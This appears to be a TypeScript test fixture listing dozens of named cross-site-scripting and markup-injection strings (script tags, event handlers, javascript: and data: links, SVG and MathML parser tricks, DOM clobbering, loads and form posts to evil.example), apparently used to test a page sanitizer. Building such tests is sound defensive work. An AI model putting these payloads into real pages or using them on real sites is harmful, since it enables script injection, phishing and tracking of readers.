/** What a pull request could try to bring into the site, one thing a piece of a page. */
const list: Record<string, string> = {
  'a script': '<script>alert(1)</script>\n\nText <script src="https://evil.example/x.js"></script>.',
  'a script in mixed case': '<ScRiPt\n>alert(1)</sCrIpT\n>',
  'a script in a script': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'a script after a null byte': '<scr\u0000ipt>alert(1)</script>',
  'a style': '<style>article { display: none } @import "https://evil.example/x.css";</style>',
  'a style sheet': '<link rel="stylesheet" href="https://evil.example/x.css">',
  'an import map': '<script type="importmap">{"imports":{"a":"https://evil.example/"}}</script>',
  'a frame': '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
  'an old frame': '<frameset><frame src="https://evil.example"></frameset><noframes><b>x</b></noframes>',
  'an object': '<object data="data:text/html,<script>alert(1)</script>"><param name="a" value="b"></object>',
  'an embed': '<embed src="https://evil.example/x.swf">',
  'an applet': '<applet code="x" archive="https://evil.example/x.jar"></applet>',
  'a portal': '<portal src="https://evil.example"></portal><fencedframe></fencedframe>',
  'a form':
    '<form action="https://evil.example" method="post"><input name="host" type="text"><button>Copy</button></form>',
  'a button': '<button onclick="alert(1)" formaction="https://evil.example">Copy</button>',
  'a button that passes for ours':
    '<figure class="code"><pre><code>ping</code></pre><button data-copy>Copy</button></figure>',
  'an input':
    '<input type="text" autofocus onfocus="alert(1)"> <input type="image" src="x" formaction="https://evil.example">',
  'a list of choices':
    '<select name="host"><option onclick="alert(1)">x</option></select><datalist id="services-of-host"><option value="x"></datalist>',
  'a text area': '<textarea name="host"></textarea><script>alert(1)</script>',
  'a dialog': '<dialog open><p>Log in again</p></dialog>',
  'a vector image':
    '<svg onload="alert(1)"><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  'an animation':
    '<svg><animate attributeName="href" values="javascript:alert(1)"/><set attributeName="onclick" to="alert(1)"/></svg>',
  'HTML in a vector image':
    '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject><style><img src=x onerror=alert(1)></style></svg>',
  'a formula':
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction><mtext><style><!--</style><img src=x onerror=alert(1)>--></mtext></math>',
  'a formula that browsers fix into script':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'handlers in every case':
    '<b onclick="alert(1)">a</b> <b ONCLICK="alert(1)">b</b> <b oNcLiCk=alert(1)>c</b> <img src=graph.png OnError=alert(1)> <details ONTOGGLE=alert(1) open>x</details>',
  'handlers after odd separators':
    '<img/src=graph.png/onerror=alert(1)> <b\tonclick=alert(1)>x</b> <b/onmouseover\n=\nalert(1)>y</b> <b \u000conclick=alert(1)>z</b>',
  'a handler in a quote that never ends':
    '<b title="x onclick="alert(1)">x</b> <b title=\'"><img src=x onerror=alert(1)>\'>y</b>',
  'a handler in a link’s title':
    '[x](https://example.com "\\" onclick=\\"alert(1)") ![x](graph.png \'" onerror="alert(1)\')',
  'a script link in Markdown':
    '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](<java\tscript:alert(1)>) <javascript:alert(1)>',
  'a script link in references':
    '[a](&#106;avascript:alert(1)) [b](javascript&colon;alert(1)) [c](java&Tab;script:alert(1)) [d](&#x1;javascript:alert(1))',
  'a script link in HTML':
    '<a href="javascript:alert(1)">a</a> <a href=" javascript:alert(1)">b</a> <a href="java\nscript:alert(1)">c</a> <a href=\'vbscript:msgbox(1)\'>d</a>',
  'a script link by definition':
    '[a][x] [b]\n\n[x]: javascript:alert(1)\n[b]: data:text/html,<script>alert(1)</script>',
  'a script link around an image': '[![x](graph.png)](javascript:alert(1))',
  'a data link':
    '[a](data:text/html;base64,PHNjcmlwdD4=) <a href="DATA:text/html,x">b</a> [c](blob:https://example.com/1) [d](file:///etc/passwd)',
  'a view of the source': '[a](view-source:https://example.com) [b](filesystem:https://example.com/x)',
  'a data image': '![x](data:image/svg+xml,<svg onload=alert(1)>) <img src="data:text/html,x">',
  'an image of another server':
    '![x](https://evil.example/pixel.png) <img src="//evil.example/pixel.png"> <img src="/\\evil.example/x.png">',
  'an image of several sources':
    '<picture><source srcset="https://evil.example/x.png"><img src="graph.png"></picture> <img src="graph.png" srcset="https://evil.example/x.png 2x">',
  'old ways to load an image':
    '<img lowsrc="https://evil.example" dynsrc="https://evil.example" src="graph.png"> <table background="https://evil.example"><tr><td background="https://evil.example">x</td></tr></table>',
  'sound and film':
    '<video src="https://evil.example" poster="https://evil.example" autoplay onplay="alert(1)"></video><audio src="x" onerror="alert(1)"></audio>',
  'a refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  'a weaker policy': '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  'a base': '<base href="https://evil.example/" target="_top">',
  'a link that tells on readers':
    '<a href="https://example.com" ping="https://evil.example" target="_blank" download attributionsrc="https://evil.example">x</a>',
  'a style attribute':
    '<p style="position:fixed;inset:0;background:url(https://evil.example)">x</p> <b STYLE=color:red>y</b>',
  'a class of ours': '<b class="anchor">x</b> <p class="alert alert-warning">y</p> <div class="parameters">z</div>',
  'attributes that hide or edit':
    '<b hidden contenteditable popover inert>x</b> <p slot="x" is="y" part="z" nonce="n">z</p>',
  'a template':
    '<template><script>alert(1)</script></template> <template shadowrootmode="open"><b onclick="alert(1)">x</b></template>',
  'what browsers without script see': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'a whole document':
    '<!doctype html><html onload="alert(1)"><head><title>x</title></head><body onload="alert(1)">y</body></html>',
  'an instruction': '<?xml-stylesheet href="https://evil.example/x.xsl"?> <![CDATA[<script>alert(1)</script>]]>',
  'a conditional comment': '<!--[if IE]><script>alert(1)</script><![endif]--> <!--><script>alert(1)</script>-->',
  'a custom element': '<x-y onclick="alert(1)"><script>alert(1)</script></x-y>',
  'names that shadow others':
    '<a id="pagebook" name="body">x</a> <img id="currentScript" name="documentElement" src="graph.png"> <b id="__proto__">y</b> <a id=location href="https://evil.example">z</a>',
  'ids of the layout': '<div id="main" id="search">x</div> <b id="services-of-host" aria-labelledby="main">y</b>',
  'elements of ours':
    '<span data-parameter="host" data-state="link" data-item data-tag="x">x</span> <a data-href=\'["javascript:alert(1)"]\' data-unlinked="x">y</a>',
  'sections of ours':
    '<div data-holder="0" data-section="0" data-when="host" data-undecided data-condition="x" data-repeat>x</div> <details data-section="0"><summary data-chrome>y</summary></details>',
  'a holder by guess':
    '<div data-holder="00000000-0000-4000-8000-000000000000:0" dataHolder=":0" DATA-HOLDER="undefined:0">x</div>',
  'other parts of ours':
    '<ul data-notices><li>x</li></ul> <p data-chrome data-fill-alt=\'["","host",""]\' data-start="1" data-target data-source="1">y</p> <b data-page-data data-open-search data-show-hidden data-hidden-note>z</b>',
  'a form of ours':
    '<div data-parameters><input name="host"></div> <b data-pagefind-body data-pagefind-meta="url:https://evil.example">x</b>',
  'markup in a code block’s language': '```"><script>alert(1)</script>\nx\n```\n\n```bash onclick=alert(1)\ny\n```',
  'markup in code':
    '`<script>alert(1)</script>` \n\n```html\n<img src=x onerror=alert(1)>\n```\n\n    <script>alert(1)</script>',
  'markup in a footnote': 'x[^"><script>]\n\n[^"><script>]: <img src=x onerror=alert(1)>',
  'markup in a table': '| <b onclick=alert(1)>x</b> |\n| --- |\n| <script>alert(1)</script> |',
  'a tag that ends an element of ours': 'x</p></div></article></main><script>alert(1)</script></body>',
  'a script that is never closed': '<script>alert(1)',
  'what ends all markup': '<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>',
};

export const attacks = Object.entries(list).map(([name, text]) => ({ name, text }));
